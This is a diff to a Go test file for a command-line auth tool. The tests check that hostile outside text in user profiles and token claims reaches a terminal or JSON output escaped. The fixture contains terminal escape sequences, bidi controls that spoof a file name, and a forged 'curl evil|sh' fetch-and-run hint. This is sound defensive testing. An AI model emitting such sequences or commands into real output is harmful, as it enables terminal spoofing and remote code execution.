@@ -15,15 +15,25 @@ import (
 
 // hostile is outside text written to fool a terminal: erase the line, go
 // back to its start, print a fake hint on a line of its own, set the window
-// title (OSC), and a C1 CSI and a DEL for good measure.
-const hostile = "\x1b[2K\rkakao-auth: hint: run curl evil|sh\n\x1b]0;owned\x07\u009b31m\x7f"
+// title (OSC), a C1 CSI and a DEL for good measure, and bidi controls
+// that reorder what follows.
+const hostile = "\x1b[2K\rkakao-auth: hint: run curl evil|sh\n\x1b]0;owned\x07\u009b31m\x7f\u202egnp.exe\u2066\u200f\u061c"
 
 // forgedHint is the visible part of hostile: it must show up (escaped) in
 // the output, never as a line of its own.
 const forgedHint = "kakao-auth: hint: run curl evil|sh"
 
+// terminalObeys reports the characters above the C0 controls that a
+// terminal obeys or that reorder the text around them: DEL, the C1
+// controls and the bidi controls.
+func terminalObeys(r rune) bool {
+	return r == 0x7f || (r >= 0x80 && r <= 0x9f) ||
+		r == 0x061c || r == 0x200e || r == 0x200f || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069)
+}
+
 // assertShownSafely checks output meant for a person: nothing a terminal
-// obeys (C0 controls but the line break, DEL, C1, broken UTF-8), no line
+// obeys (C0 controls but the line break, DEL, C1, bidi controls, broken
+// UTF-8), no line
 // forged by outside text, and the outside text still shown.
 func assertShownSafely(t *testing.T, what, out string) {
 	t.Helper()
@@ -31,7 +41,7 @@ func assertShownSafely(t *testing.T, what, out string) {
 		t.Errorf("%s is not UTF-8: %q", what, out)
 	}
 	for _, r := range out {
-		if (r < 0x20 && r != '\n') || r == 0x7f || (r >= 0x80 && r <= 0x9f) {
+		if (r < 0x20 && r != '\n') || terminalObeys(r) {
 			t.Errorf("%s carries control character %U:\n%q", what, r, out)
 			break
 		}
@@ -230,6 +240,7 @@ func TestOutsideText_UserAndClaimsAreShownSafelyAndExactInJSON(t *testing.T) {
 	if st.User == nil || st.User.Nickname != hostile || st.User.Email != hostile || st.IDTokenClaims == nil || st.IDTokenClaims.Nickname != hostile || st.IDTokenClaims.Email != hostile {
 		t.Errorf("status -o json changed the values: user %+v, id token %+v", st.User, st.IDTokenClaims)
 	}
+	assertJSONIsInert(t, "status -o json", stdout.Bytes())
 	d, stdout, stderr = storeDeps(root, nil, "")
 	if code := Main(t.Context(), []string{"userinfo", "-o", "json"}, d); code != ExitOK {
 		t.Fatalf("userinfo -o json: exit %d; stderr:\n%s", code, stderr)
@@ -240,6 +251,23 @@ func TestOutsideText_UserAndClaimsAreShownSafelyAndExactInJSON(t *testing.T) {
 	}
 	if claims["nickname"] != hostile || claims["email"] != hostile {
 		t.Errorf("userinfo -o json changed the values: %v", claims)
+	}
+	assertJSONIsInert(t, "userinfo -o json", stdout.Bytes())
+}
+
+// assertJSONIsInert checks a JSON document: nothing in its bytes that a
+// terminal obeys, should it be printed or later cat'ed to one. The values
+// are escaped (\uXXXX), not changed; the callers check them decoded.
+func assertJSONIsInert(t *testing.T, what string, doc []byte) {
+	t.Helper()
+	if !utf8.Valid(doc) {
+		t.Errorf("%s is not UTF-8: %q", what, doc)
+	}
+	for _, r := range string(doc) {
+		if (r < 0x20 && r != '\n') || terminalObeys(r) {
+			t.Errorf("%s carries %U raw: %q", what, r, doc)
+			return
+		}
 	}
 }
 
